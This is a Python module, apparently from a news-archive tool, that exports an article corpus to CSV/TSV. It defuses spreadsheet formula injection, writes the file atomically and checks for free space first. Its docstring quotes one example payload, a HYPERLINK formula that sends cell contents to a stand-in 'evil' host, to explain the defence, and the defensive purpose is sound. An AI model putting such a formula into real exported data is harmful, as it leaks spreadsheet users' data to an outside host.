"""The corpus as a CSV or TSV table for spreadsheets, with formula injection defused.

Why a module of its own: researchers open exports in Excel, LibreOffice or Google Sheets,
which run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(``=HYPERLINK("http://evil/?"&A1, "click")``), and article text and titles are written by
whoever published the page. So every text cell that starts with one of those characters,
or with a tab or carriage return, is written with a leading ``'`` (OWASP's CSV injection
advice), which spreadsheets show as text. Numbers stay numbers. The Datasette viewer's own
``.csv`` links stay raw: they are a data export, not a spreadsheet one.

The table is written to ``OUT.part`` and renamed when complete, after a free-space check,
so an export that fails or is killed leaves no half file under the requested name. An
existing ``OUT`` is kept unless ``overwrite`` is asked for (``--force``): an export is
often kept beside the notes made on it.

A ``.csv`` starts with a UTF-8 byte order mark by default: Excel opens a CSV without one in
the machine's legacy code page, so "café" shows as "cafÃ©"; with it, Excel, LibreOffice,
Google Sheets and Python's ``utf-8-sig`` all read UTF-8. ``bom=False`` (``--no-bom``)
leaves it out for tools that would keep it in the first column's name. A ``.tsv`` is for
such tools (``cut``, ``awk``, scripts) and has none unless asked.
"""

from __future__ import annotations

import csv
import errno
import os
import shutil
import sqlite3
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from schemas.corpus import CorpusError, require_corpus

# One row per article: what it says, where it came from, and the WARC record that proves it.
COLUMNS = (
    "id",
    "url",
    "canonical_url",
    "title",
    "author",
    "published",
    "modified",
    "language",
    "sitename",
    "word_count",
    "first_seen",
    "last_seen",
    "version",
    "extractor",
    "fetched_at",
    "warc_filename",
    "warc_offset",
    "warc_length",
    "warc_record_id",
    "description",
    "text",
)
# {modified} and {description}: the columns, or NULL in a corpus that no crawl has
# migrated to m009 yet (an export never migrates: it opens the corpus read-only).
_QUERY = (
    "SELECT a.id, a.url, a.canonical_url, a.title, a.author, a.published, {modified},"
    " a.language, a.sitename, a.word_count, a.first_seen, a.last_seen, a.version, a.extractor,"
    " c.fetched_at, c.warc_filename, c.warc_offset, c.warc_length, c.warc_record_id,"
    " {description}, a.text FROM articles a LEFT JOIN captures c ON c.id = a.capture_id"
    " ORDER BY a.id"
)
# Bytes the table will take, about: the text, the URLs twice, the title, the rest.
_SIZE_QUERY = (
    "SELECT coalesce(sum(length(CAST(a.text AS BLOB)) + length(a.url) * 2"
    " + coalesce(length(a.title), 0) + 400), 0) FROM articles a"
)
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
DIALECTS = {".csv": ",", ".tsv": "\t"}

Progress = Callable[[int], None]


class ExportError(RuntimeError):
    """The table cannot be written: no room, or an unknown format."""


def spreadsheet_cell(value: Any) -> Any:
    """A text cell a spreadsheet would run as a formula gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


def export_table(
    corpus_db: str | os.PathLike[str],
    output: str | os.PathLike[str],
    *,
    progress: Progress | None = None,
    overwrite: bool = False,
    bom: bool | None = None,
) -> tuple[Path, int]:
    """Write every article to ``output`` (``.csv`` or ``.tsv``); returns (path, rows).

    ``FileExistsError`` when ``output`` exists and ``overwrite`` is not asked for;
    ``bom``: a UTF-8 byte order mark first (default: for ``.csv`` only, see above)."""
    out = Path(output)
    delimiter = DIALECTS.get(out.suffix.lower())
    if delimiter is None:
        raise ExportError(f"{out.name}: a table export is .csv or .tsv")
    if out.exists() and not overwrite:
        raise FileExistsError(f"{out} exists: pass --force to replace it")
    if bom is None:
        bom = out.suffix.lower() == ".csv"
    require_corpus(corpus_db)
    tick = progress or (lambda n: None)
    conn = _open_read_only(corpus_db)
    try:
        try:
            (needed,) = conn.execute(_SIZE_QUERY).fetchone()
        except sqlite3.DatabaseError as exc:
            raise CorpusError(f"{corpus_db} is not a newsarchive corpus: {exc}") from None
        _check_free_space(out.parent, int(needed * 1.1) + 1_000_000)
        part = out.with_name(out.name + ".part")
        try:
            encoding = "utf-8-sig" if bom else "utf-8"
            with open(part, "w", encoding=encoding, newline="") as fh:
                writer = csv.writer(fh, delimiter=delimiter, quoting=csv.QUOTE_MINIMAL)
                writer.writerow(COLUMNS)
                written = 0
                for row in _rows(conn):
                    writer.writerow([spreadsheet_cell(v) for v in row])
                    written += 1
                    if written % 1000 == 0:
                        tick(1000)
                tick(written % 1000)
                fh.flush()
                os.fsync(fh.fileno())
            os.replace(part, out)
        except BaseException:
            part.unlink(missing_ok=True)
            raise
    finally:
        conn.close()
    return out, written


def _open_read_only(corpus_db: str | os.PathLike[str]) -> sqlite3.Connection:
    """An export must never migrate or lock a corpus that a crawl may be writing."""
    return sqlite3.connect(f"{Path(corpus_db).resolve().as_uri()}?mode=ro", uri=True)


def _rows(conn: sqlite3.Connection) -> Iterator[tuple[Any, ...]]:
    have = {row[1] for row in conn.execute("PRAGMA table_info(articles)")}
    cur = conn.execute(
        _QUERY.format(**{c: f"a.{c}" if c in have else "NULL" for c in ("modified", "description")})
    )
    while batch := cur.fetchmany(500):
        yield from batch


def _check_free_space(directory: Path, needed: int) -> None:
    free = shutil.disk_usage(directory).free
    if free < needed:
        message = (
            f"not enough free space in {directory}: the export needs about {needed} bytes,"
            f" {free} are free"
        )
        raise ExportError(message) from OSError(errno.ENOSPC, message)


def count_articles(corpus_db: str | os.PathLike[str]) -> int:
    """How many rows an export will write (for a progress bar's total)."""
    conn = _open_read_only(corpus_db)
    try:
        return conn.execute("SELECT count(*) FROM articles").fetchone()[0]
    except sqlite3.DatabaseError:
        return 0
    finally:
        conn.close()
